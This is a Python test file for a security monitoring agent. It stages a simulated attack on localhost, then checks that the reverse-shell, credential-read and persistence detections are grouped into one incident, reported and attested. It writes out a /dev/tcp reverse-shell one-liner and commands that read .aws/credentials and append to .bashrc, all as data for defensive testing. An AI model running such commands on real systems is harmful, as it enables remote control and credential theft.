"""An attack as a SOC sees it: one incident with its steps, from real processes to the report and the terminal."""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from guard.harness import PROGRAM
from live.account import Account
from live.agent import LiveAgent, live_agent
from nbsentinel.attest import canonical
from nbsentinel.attest.verify import verify_genesis, verify_next
from nbsentinel_guard import abi

pytestmark = [
    pytest.mark.skipif(abi.machine() is None, reason="no table of system calls for this machine"),
    pytest.mark.timeout(120),
]
Event = dict[str, Any]
SHELL = "exec 3<>/dev/tcp/127.0.0.1/{port}; exec sh <&3 >&3 2>&3"
ORDERS = b"sleep 0.3\ncat .aws/credentials >/dev/null\nsleep 0.3\necho true >> .bashrc\nsleep 0.3\nexit\n"
STEPS = {"reverse_shell_direct", "credential_read_by_foreign_program", "persistence_shell"}
CREATE, UPDATE, CLOSE = 1, 2, 3


@pytest.fixture(scope="module")
def agent(account: Account, folder: Path) -> Iterator[LiveAgent]:
    home = folder / "agent"
    with live_agent(account, home) as running:
        (home / ".aws").mkdir()
        secret, startup = home / ".aws" / "credentials", home / ".bashrc"
        account.own(home / ".aws")
        for path in (secret, startup):
            path.write_text("[default]\n")
            account.own(path)
        wait_for(lambda: leases(running) > 0)
        yield running


def leases(agent: LiveAgent) -> int:
    """Return how many files' readers are going to be named."""
    (row,) = (row for row in agent.status()["coverage"] if row["sensor"] == "files")
    found = re.search(r"(\d+) leases", row["detail"])
    return int(found.group(1)) if found else 0


def wait_for(condition: Callable[[], bool]) -> None:
    """Wait until something holds."""
    deadline = time.monotonic() + 20
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.2)


def attack(account: Account, home: Path, orders: bytes) -> int:
    """Let a peer work a guarded shell; returns the pid of the guarded command."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(10)
        launcher = [sys.executable, "-I", "-S", PROGRAM, "--run-dir", str(home / "run"), "--"]
        command = ["bash", "-c", SHELL.format(port=server.getsockname()[1])]
        with subprocess.Popen(
            [*account.prefix, *launcher, *command], stdin=subprocess.DEVNULL, cwd=home, env=account.environment(home)
        ) as running:
            connection, _ = server.accept()
            with connection:
                connection.sendall(orders)
                assert running.wait(20) == 0
            return running.pid


def findings(agent: LiveAgent) -> list[Event]:
    """Return all findings, in the order of the report."""
    return [event for event in agent.events() if event["class_uid"] == 2004]


def about(agent: LiveAgent, pid: int) -> list[Event]:
    """Return the findings whose process is below a command, in the order of the report."""

    def line(process: Event | None) -> Iterator[int]:
        while process:
            yield process["pid"]
            process = process.get("parent_process")

    return [event for event in findings(agent) if pid in line(event["evidences"][0]["process"])]


def rules(events: list[Event]) -> set[str]:
    """Return the names of the rules that findings are of."""
    return {event["finding_info"]["analytic"]["name"] for event in events}


def test_an_attack_is_one_incident(account: Account, folder: Path, agent: LiveAgent) -> None:
    """Shell, credential read and persistence below one command share a uid; another command's shell has its own."""
    home = folder / "agent"
    first, second = attack(account, home, ORDERS), attack(account, home, b"sleep 0.3\nexit\n")
    wait_for(lambda: rules(about(agent, first)) >= STEPS and "reverse_shell_direct" in rules(about(agent, second)))
    events, others = about(agent, first), about(agent, second)
    (uid,) = {event["finding_info"]["uid"] for event in events if event["severity_id"] > 1}
    assert uid not in {event["finding_info"]["uid"] for event in others}
    # What nobody is known to have done joins, too, where only this command could have been it.
    whole = [event for event in findings(agent) if event["finding_info"]["uid"] == uid]
    assert [event["activity_id"] for event in whole] == [CREATE, *[UPDATE] * (len(whole) - 1)]
    assert len({event["metadata"]["uid"] for event in whole}) == len(whole)
    newest = whole[-1]["finding_info"]
    times = [step["first_seen_time"] for step in newest["related_events"]]
    assert times == sorted(times)
    steps = [step["uid"] for step in newest["related_events"]]
    assert set(steps) <= {event["metadata"]["uid"] for event in whole}
    assert newest["related_events_count"] == len(steps) >= 3
    scores = [event["risk_score"] for event in whole]
    assert scores == sorted(scores)
    assert scores[-1] > 75

    command = [*account.prefix, sys.executable, "-m", "nbsentinel", "findings", "--run-dir", str(home / "run")]
    environment = {**account.environment(home), "COLUMNS": "200"}
    shown = subprocess.run(command, capture_output=True, text=True, env=environment, check=True, cwd=home).stdout
    table = shown[shown.index("Steps") :]
    order = [table.index(step["title"]) for step in newest["related_events"]]
    assert order == sorted(order)


def test_heartbeats_say_what_was_held_back(account: Account, folder: Path, agent: LiveAgent) -> None:
    """The signed events of the agent itself count open incidents, and what was not told by itself, by rule."""
    beats = [e["unmapped"]["nbsentinel"] for e in agent.events() if e["class_uid"] == 6002]
    told = [beat for beat in beats if beat["what"] == "heartbeat"][-1]
    assert told["held_back"]["totals"].keys() == {"suppressed", "repeated", "grouped", "limited"}
    assert told["incidents"].keys() >= {"open", "evicted", "steps_left_out"}
    before = agent.status()["incidents"]["open"]
    shell = attack(account, folder / "agent", b"sleep 0.3\nexit\n")
    wait_for(lambda: "reverse_shell_direct" in rules(about(agent, shell)))
    status = agent.status()
    assert status["incidents"]["open"] > before
    totals = status["held_back"]["totals"]
    assert totals["grouped"] == status["counters"]["grouped"]
    assert len(status["held_back"]["rules"]) == status["held_back"]["rule_count"]


def test_an_agent_closes_what_the_one_before_left_open(account: Account, folder: Path, agent: LiveAgent) -> None:
    """After kill -9 the next agent closes each open incident once, with what was known of it; the report verifies."""
    home = folder / "agent"
    shell = attack(account, home, b"sleep 0.3\nexit\n")
    wait_for(lambda: "reverse_shell_direct" in rules(about(agent, shell)))
    before = findings(agent)
    running = {event["finding_info"]["uid"] for event in before if event["activity_id"] != CLOSE}
    old = agent.status()["pid"]
    os.kill(old, signal.SIGKILL)

    def closed() -> list[Event]:
        return [event for event in findings(agent) if event["activity_id"] == CLOSE]

    wait_for(lambda: {event["finding_info"]["uid"] for event in closed()} >= running)
    over = closed()
    assert len(over) == len({event["finding_info"]["uid"] for event in over})
    (one,) = (event for event in over if event["finding_info"]["uid"] == about(agent, shell)[0]["finding_info"]["uid"])
    assert "started again" in one["status_detail"]
    assert one["severity_id"] == max(event["severity_id"] for event in about(agent, shell))
    assert one["metadata"]["uid"] not in {event["metadata"]["uid"] for event in before}
    assert one["is_alert"] is False
    chain = one["attestation_list"][0]["chain_uid"]
    lines = [line for line in (home / "report.ndjson").read_bytes().splitlines() if chain.encode() in line]
    mine = [line for line in lines if canonical.decode(line)["attestation_list"][0]["chain_uid"] == chain]
    state = verify_genesis(mine[0]).state
    for line in mine[1:]:
        state = verify_next(line, state).state
